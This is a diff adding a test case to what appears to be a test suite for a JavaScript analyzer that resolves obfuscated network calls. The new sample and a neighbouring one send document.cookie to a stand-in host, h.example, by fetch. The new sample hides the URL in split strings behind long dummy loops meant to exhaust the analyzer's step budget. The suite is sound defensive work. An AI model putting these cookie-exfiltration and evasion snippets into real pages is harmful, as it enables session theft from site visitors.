@@ -261,6 +261,12 @@ const CASES: { name: string; source: string; has: string[]; not?: string[] }[] =
     not: ['h.example/a?'],
   },
   {
+    name: 'a counted loop too long for the steps left ends at once, leaving them to the code after it',
+    source: `var a=[];for(var i=0;i<4e6;i++){}for(var j=0;4e6>j;j+=1){}
+      a.push('https://h.exa');a.push('mple/c');fetch(a.join('')+document.cookie)`,
+    has: ['fetch("https://h.example/c"+'],
+  },
+  {
     name: 'an implicit global made after a call ran is not seen by that call',
     source: `function s(){return typeof w=='string'?w:'https://h.example/a'}fetch(s()+'?'+document.cookie);w='https://h.example/b'`,
     has: [],
